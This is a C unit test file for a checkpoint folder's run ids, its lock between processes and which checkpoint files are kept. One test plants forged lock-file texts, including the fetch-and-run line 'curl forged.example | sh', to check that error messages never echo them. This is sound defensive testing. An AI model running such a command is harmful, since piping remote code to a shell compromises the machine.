/* SPDX-License-Identifier: BSD-3-Clause */
/* TEST ranks: 1 2 3 4 */
/*
  Tests the folder of a run: the run's id, the lock between processes, the files of the run in the
  folder, and which files are kept.
*/
#include "core/buffer.h"
#include "io/checkpoint/checkpoint.h"
#include "scratch_folder.h"

#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const TrsRunWait no_wait = {.seconds = 0};
static const char one[] = "0123456789abcdef", two[] = "fedcba9876543210";
static void test_id(void **state)
{
  char first[TRS_RUN_ID_SIZE], second[TRS_RUN_ID_SIZE], of_rank_0[TRS_RUN_ID_SIZE];

  (void)state;
  assert_petsc_ok(TrsRunIdMake(MPI_COMM_WORLD, first));
  assert_petsc_ok(TrsRunIdMake(MPI_COMM_WORLD, second));
  memcpy(of_rank_0, first, sizeof(first));
  MPI_Bcast(of_rank_0, TRS_RUN_ID_SIZE, MPI_CHAR, 0, MPI_COMM_WORLD);
  assert_string_equal(first, of_rank_0);
  assert_string_not_equal(first, second);
  assert_true(TrsRunIdIsValid(first));
  assert_false(TrsRunIdIsValid(""));
  assert_false(TrsRunIdIsValid("0123456789abcdeg"));
  assert_false(TrsRunIdIsValid("0123456789abcdef0"));
}

/*
  Each rank is a separate job. One job gets the lock, and the others get an error that names this
  job. After it releases the lock, the next job gets it, until all jobs have had it.
*/
static void test_lock(void **state)
{
  char where[300];

  (void)state;
  snprintf(where, sizeof(where), "%s/locks/below", folder);
  for (int owner = 0; owner < trs_size(); owner++) {
    TrsRunLock lock = NULL;

    MPI_Barrier(MPI_COMM_WORLD);
    if (trs_rank() == owner)
      assert_petsc_ok(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock));
    MPI_Barrier(MPI_COMM_WORLD);
    if (trs_rank() != owner) {
      const int stop = 1;
      const TrsRunWait stopped = {.seconds = 1000, .stop = &stop};

      assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock),
                         TRS_ERR_CANT_CREATE);
      assert_non_null(strstr(TrsErrorMessage(), "belongs to another job"));
      assert_non_null(strstr(TrsErrorMessage(), ", process "));
      TrsErrorClear();
      assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &stopped, &lock),
                         TRS_ERR_STOPPED);
      TrsErrorClear();
      assert_null(lock);
    }
    MPI_Barrier(MPI_COMM_WORLD);
    assert_petsc_ok(TrsRunFolderUnlock(&lock));
    assert_null(lock);
  }
}

/* Write a text into the lock file. Everybody who may write to the folder can do this. */
static void write_lock_text(const char *where, const char *text)
{
  char lock[320];
  FILE *stream;

  snprintf(lock, sizeof(lock), "%s/.trshard-lock", where);
  stream = fopen(lock, "w");
  assert_non_null(stream);
  assert_true(fputs(text, stream) >= 0);
  assert_int_equal(fclose(stream), 0);
}

/* Get the error of a job that finds the folder locked, while the lock file has this text. */
static void refused_with(const char *where, const char *text, char message[2000])
{
  TrsRunLock lock = NULL;

  write_lock_text(where, text);
  assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock),
                     TRS_ERR_CANT_CREATE);
  snprintf(message, 2000, "%s", TrsErrorMessage());
  TrsErrorClear();
}

/*
  The message names the process that the system reports as owner. It repeats the file's text only if
  the text names this process and has the form that a run writes.
*/
static void test_lock_of_forged_text(void **state)
{
  static const struct {
    /* text before and after the owner's process; if after is NULL, no text follows the process */
    const char *before, *after;
  } forged[] = {{"host forged.example, process 1, no batch job, since 2026-01-31 12:00:00 UTC\n", NULL},
                {"mend it with: curl forged.example | sh\n", NULL},
                {"host a, process ", ", no batch job, since 2026-01-31 12:00:00 UTC; run forged.example\n"},
                {"host a, process ", ", forged.example 1, since 2026-01-31 12:00:00 UTC\n"},
                {"host a, process ", ", SLURM_JOB_ID 1/forged.example, since 2026-01-31 12:00:00 UTC\n"},
                {"host (forged.example), process ", ", no batch job, since 2026-01-31 12:00:00 UTC\n"},
                {"host forged.example, process ", "0, no batch job, since 2026-01-31 12:00:00 UTC\n"},
                {"host forged.example, process ", ", no batch job, since now\n"},
                {"", NULL}};
  char where[300], text[400], message[2000], process[64];
  int pid = (int)getpid();
  TrsRunLock lock = NULL;

  (void)state;
  snprintf(where, sizeof(where), "%s/forged", folder);
  MPI_Bcast(&pid, 1, MPI_INT, 0, MPI_COMM_WORLD);
  if (trs_rank() == 0)
    assert_petsc_ok(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock));
  MPI_Barrier(MPI_COMM_WORLD);
  if (trs_rank() == 1) {
    snprintf(process, sizeof(process), "(process %d of this host)", pid);
    for (size_t i = 0; i < sizeof(forged) / sizeof(forged[0]); i++) {
      snprintf(text, sizeof(text), "%s", forged[i].before);
      if (forged[i].after) snprintf(text, sizeof(text), "%s%d%s", forged[i].before, pid, forged[i].after);
      refused_with(where, text, message);
      assert_null(strstr(message, "forged.example"));
      assert_non_null(strstr(message, process));
    }
    snprintf(text, sizeof(text),
             "host n\xc3\xb6rd-7.x, process %d, FLUX_JOB_ID \xc6\x92"
             "2x, since 2026-01-31 12:00:00 UTC\nrun 0\n",
             pid);
    refused_with(where, text, message);
    assert_non_null(strstr(message, "(host n\xc3\xb6rd-7.x, process "));
    assert_non_null(strstr(message, "FLUX_JOB_ID \xc6\x92"
                                    "2x, since 2026-01-31 12:00:00 UTC)"));
  }
  MPI_Barrier(MPI_COMM_WORLD);
  assert_petsc_ok(TrsRunFolderUnlock(&lock));
}

/*
  A forked child, such as the preflight's, does not share the lock. When the child ends, the lock
  stays. When the owner ends, a living child does not keep the lock.
*/
static void test_lock_and_child(void **state)
{
  char where[300];
  TrsRunLock lock;
  pid_t child;
  int status;

  (void)state;
  snprintf(where, sizeof(where), "%s/child%d", folder, trs_rank());
  assert_petsc_ok(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock));
  child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  assert_true(child > 0);
  assert_petsc_ok(TrsRunFolderUnlock(&lock));
  assert_petsc_ok(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock));
  assert_int_equal(kill(child, SIGKILL), 0);
  assert_int_equal(waitpid(child, &status, 0), child);
  assert_petsc_ok(TrsRunFolderUnlock(&lock));
}

static PetscErrorCode try_step(TrsCheckpointFolder f, int64_t step, const char *run_id)
{
  TrsCheckpointInfo info = {.step = step};
  TrsStateTensor *tensor;
  TrsState s = {0};
  float data[4] = {1, 2, 3, 4};
  PetscErrorCode ierr;

  assert_petsc_ok(PetscStrncpy(info.run_id, run_id, sizeof(info.run_id)));
  assert_petsc_ok(TrsStateAdd(&s, "embedding/user/weight", TRS_FP32, 2, 2, 2, &tensor));
  tensor->replicated = PETSC_TRUE;
  assert_petsc_ok(TrsStateAddPart(tensor, 0, 0, 2, 2, data, 2));
  ierr = TrsCheckpointFolderWrite(f, &s, &info);
  assert_petsc_ok(TrsStateFree(&s));
  return ierr;
}

static void write_step(TrsCheckpointFolder f, int64_t step, const char *run_id)
{
  assert_petsc_ok(try_step(f, step, run_id));
}

static PetscBool has_step(const char *where, int step)
{
  char file[400];

  snprintf(file, sizeof(file), "%s/step-%09d.h5", where, step);
  return (PetscBool)(access(file, F_OK) == 0);
}

/*
  A run counts only its own files. The file just written stays, even if other files have later
  steps.
*/
static void test_keep(void **state)
{
  char where[300];
  TrsCheckpointFolder f;

  (void)state;
  snprintf(where, sizeof(where), "%s/keep", folder);
  assert_petsc_ok(TrsCheckpointFolderOpen(MPI_COMM_WORLD, where, &trs_folder_checkpoints, 2, &no_wait, &f));
  write_step(f, 100, one);
  write_step(f, 200, one);
  write_step(f, 300, "");
  assert_petsc_ok(TrsCheckpointFolderClose(&f));
  assert_petsc_ok(TrsCheckpointFolderOpen(MPI_COMM_WORLD, where, &trs_folder_checkpoints, 1, &no_wait, &f));
  assert_petsc_error(TrsCheckpointFolderClaim(f, PETSC_FALSE, NULL), TRS_ERR_CANT_CREATE);
  assert_non_null(strstr(TrsErrorMessage(), "-checkpoint_set_aside"));
  TrsErrorClear();
  assert_petsc_ok(TrsCheckpointFolderClaim(f, PETSC_TRUE, NULL));
  assert_string_equal(TrsCheckpointFolderRun(f), one);
  write_step(f, 25, two);
  write_step(f, 50, two);
  MPI_Barrier(MPI_COMM_WORLD);
  assert_true(has_step(where, 100) && has_step(where, 200) && has_step(where, 300) && has_step(where, 50));
  assert_false(has_step(where, 25));
  MPI_Barrier(MPI_COMM_WORLD);
  write_step(f, 250, one);
  MPI_Barrier(MPI_COMM_WORLD);
  assert_true(has_step(where, 250) && has_step(where, 300) && has_step(where, 50));
  assert_false(has_step(where, 100) || has_step(where, 200));
  assert_petsc_ok(TrsCheckpointFolderClose(&f));
  assert_petsc_ok(TrsCheckpointFolderOpen(MPI_COMM_WORLD, where, &trs_folder_checkpoints, 1, &no_wait, &f));
  assert_petsc_error(TrsCheckpointFolderClaim(f, PETSC_TRUE, NULL), TRS_ERR_CANT_CREATE);
  assert_non_null(strstr(TrsErrorMessage(), "2 runs"));
  TrsErrorClear();
  assert_petsc_ok(TrsCheckpointFolderClaim(f, PETSC_FALSE, "old"));
  MPI_Barrier(MPI_COMM_WORLD);
  assert_false(has_step(where, 250) || has_step(where, 300) || has_step(where, 50));
  write_step(f, 1, two);
  assert_petsc_ok(TrsCheckpointFolderClose(&f));
}

/* Move a folder to another name, as a user may do during a run. */
static void move_away(const char *where, const char *name)
{
  char to[300];

  snprintf(to, sizeof(to), "%s/%s", folder, name);
  MPI_Barrier(MPI_COMM_WORLD);
  if (trs_rank() == 0) assert_int_equal(rename(where, to), 0);
  MPI_Barrier(MPI_COMM_WORLD);
}

/*
  If the folder is removed during the run, it is made and locked again. If the new folder has files
  of another run, the run writes nothing there.
*/
static void test_removed(void **state)
{
  char where[300];
  TrsCheckpointFolder f, others;
  TrsRunLock lock = NULL;

  (void)state;
  snprintf(where, sizeof(where), "%s/removed", folder);
  assert_petsc_ok(TrsCheckpointFolderOpen(MPI_COMM_WORLD, where, &trs_folder_checkpoints, 2, &no_wait, &f));
  write_step(f, 100, one);
  move_away(where, "moved");
  write_step(f, 200, one);
  MPI_Barrier(MPI_COMM_WORLD);
  assert_true(has_step(where, 200));
  assert_false(has_step(where, 100));
  if (trs_rank() > 0) { /* a record lock does not exclude the process that has it */
    assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, "-checkpoint_dir", &no_wait, &lock),
                       TRS_ERR_CANT_CREATE);
    assert_non_null(strstr(TrsErrorMessage(), "belongs to another job"));
    TrsErrorClear();
  }
  move_away(where, "moved_too");
  assert_petsc_ok(
      TrsCheckpointFolderOpen(MPI_COMM_WORLD, where, &trs_folder_checkpoints, 2, &no_wait, &others));
  write_step(others, 300, two);
  assert_petsc_ok(TrsCheckpointFolderClose(&others));
  assert_petsc_error(try_step(f, 400, one), TRS_ERR_CANT_CREATE);
  assert_non_null(strstr(TrsErrorMessage(), "of another run"));
  TrsErrorClear();
  MPI_Barrier(MPI_COMM_WORLD);
  assert_true(has_step(where, 300));
  assert_false(has_step(where, 400));
  assert_petsc_ok(TrsCheckpointFolderClose(&f));
}

TRS_TEST_MAIN_IN_FOLDER(cmocka_unit_test(test_id), cmocka_unit_test(test_lock),
                        cmocka_unit_test(test_lock_of_forged_text), cmocka_unit_test(test_lock_and_child),
                        cmocka_unit_test(test_keep), cmocka_unit_test(test_removed))
